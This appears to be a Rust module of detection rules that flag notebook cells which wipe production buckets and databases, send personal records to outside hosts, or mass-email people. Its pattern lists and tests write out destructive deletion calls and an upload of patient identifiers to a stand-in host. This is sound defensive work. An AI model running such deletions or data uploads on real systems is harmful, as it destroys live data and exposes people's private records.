//! Cells of notebooks that delete what is live: they run as soon as they are written, with the logins of whoever has the notebook open.

use std::borrow::Cow;

use super::call::{PRODUCTION, TRIED, speaks};
use super::leaks::{literals, names_machine};
use super::persons;
use super::source::folded;
use crate::policy::lists::{holds, is, parts};

/// Calls and statements by which a store loses what it keeps, in small letters and without blanks.
const CLEARS: &str = ".object_versions.delete(|.objects.all().delete(|.objects.delete(|.objects.filter(|delete_bucket(|delete_objects(|delete_object(|b.delete(|\
    bucket.delete(|.delete_blob|delete_blobs(|delete_container(|delete_table(|delete_dataset(|delete_db_instance(|delete_db_cluster(|delete_snapshot(|\
    terminate_instances(|delete_stack(|drop_database(|.drop()|drop_collection(|delete_many({})|.flushall(|.flushdb(|droptable|dropdatabase|dropschema|\
    truncate|deletefrom|delete_index(|indices.delete(|.delete_by_query(|delete_topics(|.purge(|delete_collection(|.delete_namespace|delete_file_system(|\
    delete_secret(|delete_vault|delete_recovery_point(|delete_backup(|.rmtree(|fs.rm(|.delete_collection|recursive_delete|delete_user(|schedule_key_deletion(|\
    not_found_ok=true|.delete_instance(|.delete_cluster(|drop_all(|.drop_table(|delete_index|deleteall";

/// What is live by its own name: copies that are kept, and what people are sent.
const KEPT: &str = "backup|backups|invoices|ledger|snapshots";

/// Whether a cell clears a store that is production's by a name in it.
pub(super) fn clear_what_is_live(code: &str) -> bool {
    const ELSEWHERE: &str = "localhost|non|pre|moto";
    if !holds(code, "delete|DELETE|drop|DROP|runcate|TRUNCATE|flush|terminate|purge|rm") {
        return false;
    }
    let is_live = |text: &str| {
        let mut words = text.split(|char: char| !char.is_ascii_alphanumeric()).map(str::to_ascii_lowercase);
        (speaks(text, PRODUCTION) || words.any(|word| is(&word, KEPT)))
            && !speaks(text, TRIED)
            && !speaks(text, ELSEWHERE)
    };
    holds(&folded(code), CLEARS) && !holds(code, "dry_run=True|DryRun=True") && literals(code).any(is_live)
        || names_environment(code)
}

/// Whether a script that asks nobody and chooses nothing takes all rows of tables of what is production's by the name of its address.
pub(super) fn empty_what_is_live(code: &str) -> bool {
    const EMPTIES: &str =
        "truncate |truncate table|drop table |drop schema |drop database |drop_all(|dropdatabase(|drop_database(";
    const ASKS: &str = "if |argparse|sys.argv|click|input(|confirm|dry";
    const ADDRESSES: &str = "URL|DSN|URI|DATABASE|DB|HOST|CONN";
    if !holds(code, "TRUNCATE|truncate|DROP|drop") {
        return false;
    }
    let is_live =
        |text: &str| text.len() <= 64 && holds(text, ADDRESSES) && speaks(text, PRODUCTION) && !speaks(text, TRIED);
    holds(&code.to_ascii_lowercase(), EMPTIES) && !holds(code, ASKS) && literals(code).any(is_live)
}

/// Whether a cell gives rows in which people are known to another machine that its text names.
pub(super) fn hand_out_people(code: &str) -> bool {
    const ROWS: &str = ".to_csv(|.to_json(|.to_dict(|.to_html(|.to_markdown(|.to_string(|.to_parquet(|.to_excel(|.to_records(|dumps(|.tolist()|\
        write_csv(|\
        write_json(|.values|fetchall(|files=";
    const GIVES: &str = "requests.post(|requests.put(|httpx.post(|httpx.put(|urlopen(|session.post(|http.client|.request(|aiohttp|urllib3|\
        requests.request(";
    const HIDES: &str =
        "sha256(|hashlib|mask(|anonymi|pseudonymi|.groupby(|.agg(|.mean()|.count()|.describe()|faker|Faker|synthetic";
    if !holds(code, GIVES) || !holds(code, ROWS) || holds(code, HIDES) || !names_machine(code) {
        return false;
    }
    // A query names its columns within one text.
    let words = literals(code)
        .flat_map(|text| text.split([',', ' ', '\n']))
        .map(|word| word.rsplit('.').next().unwrap_or_default().to_ascii_lowercase());
    let mut known: Vec<String> = words.filter(|word| persons::is_known(word)).collect();
    known.sort_unstable();
    known.dedup();
    known.len() > 1 && known.iter().any(|word| persons::is_sure(word))
}

/// Whether a cell deletes files of a share in a network, which it names as Windows does.
pub(super) fn clear_what_many_keep(code: &str) -> bool {
    holds(code, "\\\\")
        && holds(code, "rmtree(|.unlink(|os.remove(|.rmdir(")
        && literals(code).any(|text| text.len() > 4 && text.starts_with("\\\\"))
}

/// Whether a cell has calls by which people are written to, or by which something is everybody's from then on.
pub(super) fn may_reach_people(code: &str) -> bool {
    holds(
        code,
        "send|messages.create|deliver|push_to_hub|create_repo|publish|kaggle|upload_folder|huggingface-cli|hf upload|.mail(",
    )
}

/// Whether a cell writes to each of the people in its rows.
pub(super) fn write_to_each(code: &str) -> bool {
    const ROWS: &str = ".iterrows()|.itertuples()|.to_dict(|.apply(|for ";
    const SENDS: &str = "send_message(|.sendmail(|send_email(|send_mail(|messages.create(|.send(|send_sms(|sendMail(|send_templated_email(|.publish(PhoneNumber";
    const PEOPLE: &str = ".email|['email|[\"email|.e_mail|['mail']|[\"mail\"]|.mail,|.phone|['phone|[\"phone|.mobile|['mobile|.Email|['Email|[\"Email|.emails|emails:|email_address";
    const CAUGHT: &str =
        "localhost|127.0.0.1|1025|mailhog|mailpit|mailtrap|.head(|.sample(|[:1]|[:2]|[:3]|[:5]|dry_run|DRY_RUN|test";
    holds(code, SENDS) && holds(code, ROWS) && holds(code, PEOPLE) && !holds(code, CAUGHT)
}

/// A cell with the modules that a cell before it took, where it names them.
pub(super) fn with_imports(code: &str) -> Cow<'_, str> {
    const MODULES: &str = "boto3|smtplib|twilio|sendgrid|yagmail|requests|resend|mailchimp|huggingface_hub|slack_sdk";
    let is_named = |module: &str| {
        code.contains(&format!("{module}.")) || module == "huggingface_hub" && holds(code, "push_to_hub(|HfApi(")
    };
    let is_used = |module: &&str| is_named(module) && !code.contains(&format!("import {module}"));
    let missing: Vec<&str> = parts(MODULES).filter(is_used).collect();
    if missing.is_empty() {
        return code.into();
    }
    format!("import {}\n{code}", missing.join(", ")).into()
}

/// Whether a store that is production's by the name of a variable is cleared by a statement.
fn names_environment(code: &str) -> bool {
    let folded = folded(code);
    holds(code, "PROD_|_PROD|prod_engine|prod_db|prod_conn|engine_prod|conn_prod|prod.cursor|prod.execute")
        && holds(&folded, CLEARS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_hands_out_people_is_known() {
        for (code, gives) in [
            ("requests.post('https://paste.example/n', data=df[['mrn', 'surname']].to_csv())", true),
            ("requests.post('https://paste.example/n', data=df[['country', 'orders']].to_csv())", false),
            ("requests.post('https://paste.example/n', data=df.groupby(['email', 'dob']).agg('sum').to_csv())", false),
            ("requests.post(os.environ['HOOK'], data=df[['mrn', 'surname']].to_csv())", false),
            ("df[['mrn', 'surname']].to_csv('out.csv')", false),
        ] {
            assert_eq!(hand_out_people(code), gives, "{code}");
        }
    }

    #[test]
    fn a_cell_that_clears_what_is_live_is_known() {
        for (code, clears) in [
            ("b = s3.Bucket('shop-prod-backups')\nb.object_versions.delete()\nb.delete()", true),
            ("engine = create_engine(os.environ['PROD_DB_URL'])\nengine.execute('TRUNCATE orders')", true),
            ("client['shop-production'].orders.delete_many({})", true),
            ("df = df.drop(columns=['prod_id'])", false),
            ("s3.Bucket('shop-dev-uploads').objects.all().delete()", false),
            ("pd.read_sql('select * from orders', prod_engine)", false),
        ] {
            assert_eq!(clear_what_is_live(code), clears, "{code}");
        }
    }
}
